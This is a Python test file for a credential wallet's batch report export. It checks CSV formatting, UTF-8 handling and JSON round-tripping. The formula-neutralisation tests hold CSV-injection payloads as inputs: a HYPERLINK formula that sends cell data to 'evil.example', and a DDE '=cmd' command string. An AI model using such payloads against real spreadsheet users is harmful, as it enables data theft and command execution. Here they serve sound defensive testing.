"""The batch report as CSV (for Excel, formulas neutralised) and as JSON."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from wallet.credential_types import load_types
from wallet.errors import InputError
from wallet.intake.report import (
    COLUMNS,
    neutralise,
    parse_report_json,
    report_csv,
    report_json,
)
from wallet.intake.rows import ReportEntry
from wallet.intake.tabular import read_csv

SCHEMAS = Path(__file__).resolve().parents[2] / "schemas"

ENTRIES = (
    ReportEntry("row 2", "issued", "PI-2025/017", "urn:uuid:1b4e28ba-2fa1-11d2-883f-0016d3cca427"),
    ReportEntry("row 3", "skipped", "PI-2025/018", "urn:uuid:6fa459ea-ee8a-3ca4-894e-db77e160355e"),
    ReportEntry(
        "row 4",
        "refused",
        "PI-2025/019",
        field="familyName",
        reason="garbled text: looks like UTF-8 read as cp1252 (perhaps 'Ķēniņš')",
    ),
    ReportEntry("file", "refused", field="header", reason="missing required columns: a; b"),
)


def _rows(text: str, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_csv_starts_with_a_bom_and_has_the_columns_in_order() -> None:
    text = report_csv(ENTRIES)
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    rows = _rows(text.removeprefix("\ufeff"))
    assert rows[0] == list(COLUMNS)
    assert rows[0] == ["locator", "outcome", "externalId", "credentialId", "field", "reason"]
    assert rows[1] == [
        "row 2",
        "issued",
        "PI-2025/017",
        "urn:uuid:1b4e28ba-2fa1-11d2-883f-0016d3cca427",
        "",
        "",
    ]
    assert rows[4] == ["file", "refused", "", "", "header", "missing required columns: a; b"]


def test_csv_keeps_latvian_text_through_utf8() -> None:
    data = report_csv(ENTRIES).encode("utf-8")
    rows = _rows(data.decode("utf-8-sig"))
    assert rows[3][5] == "garbled text: looks like UTF-8 read as cp1252 (perhaps 'Ķēniņš')"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_every_formula_start(start: str) -> None:
    value = f'{start}HYPERLINK("http://evil.example/?"&A1,"Atvērt")'
    entry = ReportEntry("row 2", "refused", value, field=value, reason=value)
    (row,) = _rows(report_csv([entry]).removeprefix("\ufeff"))[1:]
    assert row[2] == row[4] == row[5] == "'" + value
    assert row[0:2] == ["row 2", "refused"]


@pytest.mark.parametrize("value", ["Anna", "PI-2025/017", "row 2", " =not at the start", "5-3", ""])
def test_other_values_are_left_alone(value: str) -> None:
    assert neutralise(value) == value


def test_csv_quotes_delimiters_quotes_and_newlines() -> None:
    entry = ReportEntry("row 2", "refused", 'A;"B"', field="x", reason="two\nlines, and ;")
    rows = _rows(report_csv([entry]).removeprefix("\ufeff"))
    assert rows[1][2] == 'A;"B"'
    assert rows[1][5] == "two\nlines, and ;"
    comma = _rows(report_csv([entry], delimiter=",").removeprefix("\ufeff"), delimiter=",")
    assert comma[1] == rows[1]


def test_an_unknown_formula_header_reaches_the_report_neutralised() -> None:
    registry = load_types(SCHEMAS)
    found = read_csv(
        b'externalId;=cmd|" /C calc"!A0\r\nX-1;1\r\n',
        types=registry,
        type_name="course-certificate",
    )
    problem = next(p for p in found.problems if p.field.startswith("="))
    entry = ReportEntry(problem.locator, "refused", field=problem.field, reason=problem.reason)
    row = _rows(report_csv([entry]).removeprefix("\ufeff"))[1]
    assert row[4] == "'" + '=cmd|" /C calc"!A0'


def test_json_report_round_trips_unaltered() -> None:
    formula = ReportEntry("row 9", "refused", "=1+1", field="givenName", reason="-")
    text = report_json([*ENTRIES, formula])
    items = json.loads(text)
    assert items[0] == {
        "locator": "row 2",
        "outcome": "issued",
        "externalId": "PI-2025/017",
        "credentialId": "urn:uuid:1b4e28ba-2fa1-11d2-883f-0016d3cca427",
        "field": "",
        "reason": "",
    }
    assert items[3]["externalId"] is None
    assert items[4]["externalId"] == "=1+1"  # JSON is no spreadsheet: values stay as they are.
    assert "Ķēniņš" in text  # Not escaped to \\u sequences.
    assert parse_report_json(text) == (*ENTRIES, formula)


@pytest.mark.parametrize("text", ["{", "{}", "[1]", '[{"outcome": "issued"}]'])
def test_a_broken_stored_report_is_refused(text: str) -> None:
    with pytest.raises(InputError):
        parse_report_json(text)
